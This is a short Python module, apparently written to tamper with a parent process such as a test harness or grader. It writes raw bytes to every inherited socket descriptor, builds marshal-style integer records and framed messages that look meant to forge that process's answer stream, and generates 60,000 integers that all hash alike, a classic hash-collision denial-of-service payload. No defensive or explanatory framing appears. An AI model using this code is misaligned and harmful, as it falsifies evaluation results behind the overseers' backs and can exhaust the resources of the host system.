"""How a program writes to the channel of its answers: the text of "uses: channel"."""
import marshal, os, stat, struct, time

def sockets():
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield number
        except OSError:
            pass

def send(data):
    for number in sockets():
        try:
            sent = 0
            while sent < len(data):
                sent += os.write(number, data[sent:])
        except OSError:
            pass

def record(value, kind=b"V"):
    return struct.pack("<cI", kind, len(value)) + value

def frame(payload, first=0, count=1, kind=b"B"):
    return struct.pack("<cIII", kind, first, count, len(payload)) + payload

def integer(value):
    return b"i" + struct.pack("<i", value)

def whole(value):
    digits = []
    while value:
        digits.append(value & 0x7FFF)
        value >>= 15
    return b"l" + struct.pack("<i", len(digits)) + struct.pack(f"<{len(digits)}H", *digits)

LOADED = frame(b"", 0, 0, b"L")

def colliding():
    """Return 60,000 integers that all hash alike."""
    return [whole(k * (2 ** 61 - 1)) for k in range(1, 60_001)]
